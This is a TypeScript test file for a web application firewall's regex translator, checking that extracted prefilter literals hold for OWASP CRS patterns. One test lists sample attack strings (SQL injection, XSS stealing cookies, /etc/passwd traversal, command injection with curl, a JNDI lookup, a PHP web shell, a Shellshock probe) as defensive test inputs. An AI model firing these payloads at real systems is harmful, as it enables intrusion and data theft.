import { describe, expect, it } from 'vitest';
import { translatePcre, type PcreOptions, type TranslatedRegex } from '#engine/waf/regex';
import { missing } from '../../../support/crs-dirs.ts';
import { CRS3_RULES, rxPatterns } from './crs-patterns.ts';

const RX: PcreOptions = { dotall: true, dollarEndOnly: true };

function required(pattern: string): readonly string[] | undefined {
  return translatePcre(pattern, RX).required;
}

/** The contract: every input the regex matches contains one of the strings (ASCII case folded). */
function holds(pattern: string, input: string): boolean {
  return holdsFor(translatePcre(pattern, RX), input);
}

function holdsFor(t: TranslatedRegex, input: string, re = new RegExp(t.source, t.flags)): boolean {
  if (t.required === undefined || !re.test(input)) return true;
  const folded = input.replace(/[A-Z]/g, (c) => c.toLowerCase());
  return t.required.some((s) => folded.includes(s));
}

describe('required literals', () => {
  it('a plain word is its own requirement', () => {
    expect(required('select')).toEqual(['select']);
  });

  it('keeps one part of a sequence when the parts between are not literal', () => {
    expect([['union'], ['select']]).toContainEqual(required('union\\s+select'));
    expect(required('a\\s+select')).toEqual(['select']);
  });

  it('folds ASCII letters of caseless patterns', () => {
    expect(required('(?i)SeLeCt')).toEqual(['select']);
  });

  it('expands small alternations and optional parts into exact strings', () => {
    expect(required('(?:foo|bar)baz')).toEqual(['foobaz', 'barbaz']);
    expect(required('ab?c')).toEqual(['ac', 'abc']);
  });

  it('needs every alternative to have a requirement', () => {
    expect(required('foo|\\w+')).toBeUndefined();
    expect(required('foo|\\d+')).toEqual(['foo', '0', '1', '2', '3', '4', '5', '6', '7', '8', '9']);
    expect(required('foo|bar\\d+')).toEqual(['foo', 'bar']);
  });

  it('names nothing for patterns that can match anything or nothing', () => {
    expect(required('^.*$')).toBeUndefined();
    expect(required('a*')).toBeUndefined();
    expect(required('')).toBeUndefined();
    expect(required('(?:)')).toBeUndefined();
  });

  it('lookarounds and anchors consume nothing', () => {
    expect(required('^(?=x)ab\\b')).toEqual(['ab']);
  });

  it('backreferences are not literals', () => {
    expect(required('(a)\\1')).toEqual(['a']);
  });

  it('holds for inputs the regex matches, in any case', () => {
    const cases: [string, string][] = [
      ['(?i)union\\s+select', 'x UNION   SeLeCt y'],
      ['(?:foo|bar)baz', 'BARbaz'],
      ['<script[^>]*>', '<SCRIPT src=x>'],
      ['\\.\\./', '..\\../'],
    ];
    for (const [pattern, input] of cases) expect(holds(pattern, input)).toBe(true);
  });

  it('holds for every CRS 3.3.4 pattern on attack strings', ({ skip }) => {
    if (missing.crs3) skip(missing.crs3);
    const inputs = [
      "1' OR '1'='1",
      '1 UNION SELECT password FROM users--',
      '<script>alert(1)</script>',
      '<img src=x onerror=alert(1)>',
      'javascript:alert(document.cookie)',
      '../../../../etc/passwd',
      '..\\..\\windows\\win.ini',
      '127.0.0.1;cat /etc/passwd',
      '$(curl http://x)',
      '${jndi:ldap://x/a}',
      '<?php system($_GET["c"]); ?>',
      'sleep(5)#',
      "'; DROP TABLE users; --",
      '{{7*7}}',
      'Mozilla/5.0 (compatible; Nikto/2.1.6)',
      'bytes=0-,5-',
      '%00%0d%0a',
      'O:8:"stdClass":0:{}',
      'java.lang.Runtime',
      '() { :; }; echo vulnerable',
    ];
    for (const { pattern } of rxPatterns(CRS3_RULES)) {
      let t: TranslatedRegex;
      try {
        t = translatePcre(pattern, RX);
      } catch {
        continue; // untranslatable patterns are reported by crs-patterns.test.ts
      }
      const re = new RegExp(t.source, t.flags);
      for (const input of inputs) expect(holdsFor(t, input, re), `${pattern} on ${input}`).toBe(true);
    }
  }, 60_000);
});
